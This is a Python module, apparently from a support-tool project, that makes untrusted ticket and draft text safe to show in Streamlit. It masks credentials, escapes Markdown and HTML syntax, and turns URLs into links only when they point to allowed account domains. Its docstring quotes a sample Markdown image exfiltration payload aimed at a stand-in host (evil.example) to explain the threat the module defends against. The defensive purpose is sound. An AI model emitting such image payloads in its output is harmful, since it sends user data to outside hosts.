"""Untrusted record text (subjects, comments, answers, snippets, drafts) shown as text.

Streamlit renders strings as GitHub-flavoured Markdown: a ticket subject such as
``![x](https://evil.example/p.gif?d=…)`` would make the reviewer's browser fetch a remote image
(an exfiltration channel for injected text), and ``https://evil.example`` would become a
clickable link. Everything here turns record text into Markdown that shows the same characters
but has no syntax: every character Markdown (or Streamlit's ``:color[…]`` directives, HTML or
LaTeX) could read as markup is written as a numeric character reference. Credentials are masked
first, with the one recognizer registry.

- ``inert(text, allowed_hosts)``: text only; a URL whose host is one of ``allowed_hosts`` (the
  account's own domains) stays a link, every other URL is shown as code (never a link).
- ``defuse(markdown)``: a draft, keeping its headings, lists and emphasis, but with no link,
  image, raw HTML or autolink.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from urllib.parse import quote, urlsplit

from copilot.records.secrets import mask

__all__ = ["allowed_hosts_of", "defuse", "inert", "host_allowed"]

_SYNTAX = frozenset("\\`*_{}[]()#+-.!|~:$@<>&\"'=^%")
_URL = re.compile(r"(?i)\b(?:https?://|www\.)[^\s<>\"'`\]\[]+")
_TRAILING = ".,;:!?)"


def _ref(ch: str) -> str:
    return f"&#{ord(ch)};" if ch in _SYNTAX else ch


def _plain(text: str) -> str:
    lines = ("".join(_ref(ch) for ch in line) for line in text.split("\n"))
    return "  \n".join(lines)


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    """``host`` is one of ``allowed`` or a subdomain of one."""
    host = host.lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in (h.lower().strip(".") for h in allowed) if a)


def allowed_hosts_of(plan: object | None) -> frozenset[str]:
    """The hosts whose links may be clickable for an account: its plan's e-mail domains."""
    account = getattr(plan, "account", None)
    return frozenset(d.lower() for d in getattr(account, "email_domains", None) or [] if d)


def inert(text: object, allowed_hosts: Iterable[str] = ()) -> str:
    """Markdown that shows ``text`` exactly (credentials masked) and can load or link nothing,
    except links to ``allowed_hosts``."""
    text = mask(str(text or ""))
    allowed = tuple(allowed_hosts)
    out, pos = [], 0
    for match in _URL.finditer(text):
        url = match.group(0).rstrip(_TRAILING)
        end = match.start() + len(url)
        out.append(_plain(text[pos: match.start()]))
        target = url if "://" in url else "https://" + url
        if allowed and host_allowed(urlsplit(target).hostname or "", allowed):
            out.append(f"[{_plain(url)}]({quote(target, safe=':/?#&=%~+,;@!$')})")
        else:  # a code span: the Markdown renderer autolinks URLs even when written as references
            out.append(f"`{url}`")
        pos = end
    out.append(_plain(text[pos:]))
    return "".join(out)


_AUTOLINK = re.compile(r"(?i)\b(https?|ftp|mailto|javascript|data)(:)|\b(www)(\.)|(@)")


def defuse(markdown: str) -> str:
    """A draft's Markdown with its structure kept but nothing that links, loads or runs:
    HTML escaped, ``[``/``]`` (links, images, references, directives) and autolink triggers
    written as character references. Credentials are masked."""
    text = html.escape(mask(markdown), quote=False).replace("[", "&#91;").replace("]", "&#93;")
    return _AUTOLINK.sub(lambda m: "".join(_ref(g) if g in {":", ".", "@"} else g
                                           for g in m.groups() if g is not None), text)
